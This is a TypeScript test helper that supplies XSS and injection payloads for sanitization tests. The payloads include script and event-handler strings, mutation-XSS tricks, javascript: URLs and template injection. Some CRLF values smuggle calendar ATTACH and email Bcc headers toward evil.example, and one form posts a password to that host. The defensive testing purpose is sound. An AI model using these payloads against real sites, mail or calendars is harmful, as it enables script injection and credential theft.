import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

const collected = join(
  process.env['SHARED_DATA'] ?? join(import.meta.dirname, '../../../shared/data'),
  'xss-payloads.jsonl',
)

/**
 * Texts that break out of their context: attributes, data in scripts, feeds, calendars, emails, bot
 * messages.
 */
const OWN = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '" onfocus="alert(1)" autofocus tabindex="1" x="',
  '</title></head><body onload=alert(1)>',
  '</script><script>alert(1)</script>',
  '<!--<script>alert(1)//-->',
  ']]><script>alert(1)</script><![CDATA[',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '\u2028alert(1)\u2029',
  '${alert(1)}{{constructor.constructor("alert(1)")()}}',
  'javascript:alert(1)',
  'java\tscript:alert(1)',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  'x\r\nATTACH:http://evil.example\r\nBEGIN:VALARM',
  'x\r\nBcc: everybody@evil.example\r\n\r\n<b>',
  '<a href="https://evil.example" target=_top>open</a><base href="//evil.example/">',
  '<form action="https://evil.example"><input name=password><button>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template><iframe srcdoc="<script>parent.alert(1)</script>">',
  '<mark onmouseover=alert(1)>x</mark><meta http-equiv=refresh content="0;url=https://evil.example">',
  '[link](javascript:alert(1)) <tg-spoiler>x</tg-spoiler> *_`',
]

/** Whether the external collection is available; without it only our own are used. */
export const hasCollection = existsSync(collected)

/** Attacks by text, each unchanged: our own, and collected ones. */
export function vectors(): string[] {
  if (!hasCollection) return OWN
  const lines = readFileSync(collected, 'utf8').trim().split('\n')
  return [...OWN, ...lines.map((line) => (JSON.parse(line) as { payload: string }).payload)]
}

/** The same as so many long texts. */
export function vectorTexts(count: number): string[][] {
  const all = vectors()
  const each = Math.ceil(all.length / count)
  return Array.from({ length: count }, (_, n) => all.slice(n * each, (n + 1) * each)).filter(
    (chunk) => chunk.length > 0,
  )
}
